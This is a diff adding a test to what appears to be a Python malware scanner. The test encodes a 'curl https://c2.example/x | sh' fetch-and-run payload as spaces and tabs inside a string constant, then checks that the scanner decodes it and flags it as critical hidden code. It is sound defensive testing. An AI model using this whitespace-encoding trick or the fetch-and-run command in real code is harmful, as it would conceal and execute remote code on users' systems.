@@ -406,3 +406,19 @@ test('AI_NUMERICHOST counts only as the socket flag it resolves to, alone or or-
   assert.equal(verdict(call('socket.AI_NUMERICHOST | socket.AI_PASSIVE')), false);
   assert.equal(verdict(`AI_NUMERICHOST = 0\n${call('AI_NUMERICHOST')}`), true, 'a local name that reads like the flag');
 });
+
+test('Python spelt in a string of spaces and tabs (one bit per character) is hidden code, rescanned as a file', () => {
+  const payload = 'import os\nos.system("curl https://c2.example/x | sh")\n';
+  const blanks = [...payload]
+    .map((c) => c.charCodeAt(0).toString(2).padStart(8, '0').replaceAll('0', ' ').replaceAll('1', '\t'))
+    .join('');
+  const files = analyzePythonFile('demo/mod.py', new TextEncoder().encode(`PAD = "${blanks}"\n`));
+  const hidden = ruleOf(files[0].findings, 'hidden-code');
+  assert.equal(hidden?.severity, 'critical', 'high, raised: a module constant is made on import');
+  assert.equal(hidden?.decoded?.preview, payload);
+  const virtual = files.find((file) => file.path.includes('#decoded'));
+  assert.ok(virtual?.findings.some((f) => f.rule === 'process-network-tool' || f.rule === 'download-execute'));
+  // blanks used for layout spell nothing that reads as Python
+  const layout = `PAD = "${' \t'.repeat(200)}"\n`;
+  assert.equal(ruleOf(findings(layout), 'hidden-code'), undefined);
+});
